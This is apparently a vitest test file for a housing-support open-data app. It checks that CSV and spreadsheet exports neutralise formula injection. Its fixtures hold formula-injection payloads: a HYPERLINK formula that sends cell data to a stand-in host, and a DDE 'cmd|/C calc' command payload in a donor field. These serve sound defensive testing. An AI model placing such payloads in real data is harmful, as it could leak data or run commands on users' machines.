import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { householdColumns, type HouseholdRow } from '../../src/lib/open-data/columns.ts';
import { toCsv, toRecords } from '../../src/lib/open-data/formats.ts';
import { moneyInColumns } from '../../src/lib/open-data/ledger-columns.ts';
import type { MoneyInRow } from '../../src/lib/ledger/ledger-rows.ts';
import { csvFile, formulaSafe, workbookFile } from '../../src/lib/spreadsheets/spreadsheet-files.ts';

/** Cells of a CSV line that holds no quoted commas. */
const cellsOf = (csv: string, line: number) => csv.split('\r\n')[line]!.split(',');

const household: HouseholdRow = {
  publicCode: 'DT25-18229-777',
  communeCode: '18229',
  village: '=HYPERLINK("http://x.example/?"&A1)',
  category: 'poor',
  supportProgramme: 'temporary_housing_elimination',
  supportType: 'repair',
  stage: 'started',
  stageDate: '2025-08-01',
  supportAmount: 30_000_000n,
  campaignId: 'duc-tho-2025',
  recordedEra: '2025',
  recordedCommuneCode: '18229',
  isDemo: false,
  stageHistory: [{ stage: 'started', occurredOn: '2025-08-01' }],
  nationalLevel: undefined,
};

const gift: MoneyInRow = {
  kind: 'payment',
  receivedAt: new Date('2025-09-25T03:00:00Z'),
  amount: 500_000n,
  channel: 'bank_transfer',
  donor: '@SUM(1+1)*cmd|/C calc!A0',
  reference: 'CT7K9Q2XMA',
  targetKind: 'commune',
  targetCode: '18229',
  memo: '+84 ung ho',
  receipt: null,
};

describe('text a spreadsheet would run as a formula', () => {
  it('is written after a single quote when it starts with = + - @, tab, carriage return or NUL', () => {
    for (const text of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\0=1', '＝1+1'])
      expect(formulaSafe(text)).toBe(`'${text}`);
  });

  it('leaves other text, and plain numbers, negative ones too, as they are', () => {
    for (const text of ['Thôn 3', 'N.V.A.', "'quoted", '1+1', 'a=b', '-500000', '-12.5', '0912', ''])
      expect(formulaSafe(text)).toBe(text);
  });
});

describe('CSV files', () => {
  it('neutralise household villages, and keep whole đồng as numbers', () => {
    const csv = toCsv([household], householdColumns);
    expect(csv).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1)",`);
    expect(cellsOf(csv, 1)).toContain('30000000');
  });

  it('neutralise donors and memos in the ledger, without changing the JSON', () => {
    const csv = toCsv([gift], moneyInColumns);
    expect(cellsOf(csv, 1)).toEqual([
      'payment',
      '2025-09-25T03:00:00.000Z',
      '500000',
      'bank_transfer',
      "'@SUM(1+1)*cmd|/C calc!A0",
      'CT7K9Q2XMA',
      'commune',
      '18229',
      "'+84 ung ho",
      '',
    ]);
    expect(toRecords([gift], moneyInColumns)[0]).toMatchObject({ donor: gift.donor, memo: gift.memo });
  });

  it('keep negative numbers numbers and neutralise a formula that starts after a separator or a line break', () => {
    const csv = csvFile(['a', 'b', 'c', 'd'], [[-500_000, '-500000', 'Thôn 3;=1+1', 'dòng 1\n-1+1']]);
    expect(csv.split('\r\n')[1]).toBe(`-500000,-500000,Thôn 3;'=1+1,"dòng 1\n'-1+1"`);
  });
});

describe('workbooks', () => {
  it('neutralise text cells and keep numbers numbers', async () => {
    const bytes = await workbookFile([
      { rows: [[{ value: '=./.C.' }, { value: -1 }, { value: 'Thôn 3' }, { value: '-2' }, null, { value: '\tx' }]] },
    ]);
    expect((await readSheet(bytes))[0]).toEqual(["'=./.C.", -1, 'Thôn 3', '-2', null, "'\tx"]);
  });
});
